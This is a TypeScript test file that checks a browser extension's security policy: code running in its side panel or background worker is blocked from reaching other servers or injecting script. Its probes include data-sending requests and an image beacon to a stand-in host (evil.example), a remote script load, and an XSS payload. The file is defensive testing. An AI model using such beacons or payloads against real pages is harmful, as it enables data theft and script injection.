import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type Harness, startHarness } from '../drivers/harness.ts';
import { waitUntil } from '../drivers/wait-until.ts';

let harness: Harness;
beforeAll(async () => {
  harness = await startHarness();
});
afterAll(() => harness?.close());

/** Runs in the side panel as code that got into it would. Resolves to what the browser refused. */
async function refused(probe: () => unknown): Promise<string[]> {
  const { page } = harness.panel;
  const directives = page.evaluate(
    () =>
      new Promise<string[]>((done) => {
        const found: string[] = [];
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          found.push(effectiveDirective);
          done(found);
        });
      }),
  );
  await page.evaluate(probe);
  return directives;
}

describe('code that got into the side panel', () => {
  test('cannot send to another server', async () => {
    expect(await refused(() => fetch('https://evil.example/').catch(() => undefined))).toEqual([
      'connect-src',
    ]);
  });

  test('cannot send by the address of an image', async () => {
    expect(
      await refused(() => {
        new Image().src = 'https://evil.example/?secret';
      }),
    ).toEqual(['img-src']);
  });

  test('cannot load a script from elsewhere', async () => {
    expect(
      await refused(() => {
        const script = document.createElement('script');
        try {
          script.src = 'https://evil.example/script.js';
        } catch {
          // Refused as a text that no policy of ours made.
        }
        document.head.append(script);
      }),
    ).toEqual(['require-trusted-types-for']);
  });

  test('cannot make elements or code from text', async () => {
    expect(
      await refused(() => {
        try {
          document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>';
        } catch {
          // Expected.
        }
      }),
    ).toEqual(['require-trusted-types-for']);
  });

  test('cannot make a policy of its own for trusted text', async () => {
    expect(
      await refused(() => {
        const { trustedTypes } = globalThis as unknown as {
          trustedTypes: { createPolicy(name: string, rules: object): unknown };
        };
        try {
          trustedTypes.createPolicy('own', { createHTML: (text: string) => text });
        } catch {
          // Expected.
        }
      }),
    ).toEqual(['trusted-types']);
  });
});

test('the background cannot send to another server', async () => {
  const target = await harness.chromium.browser.waitForTarget(
    (one) => one.type() === 'service_worker',
  );
  const worker = await waitUntil('the worker', () => target.worker());
  const outcome = await worker?.evaluate(
    () =>
      new Promise<string>((done) => {
        addEventListener('securitypolicyviolation', (event) => {
          done((event as SecurityPolicyViolationEvent).effectiveDirective);
        });
        fetch('https://evil.example/').then(
          () => done('sent'),
          () => undefined,
        );
      }),
  );
  expect(outcome).toBe('connect-src');
});
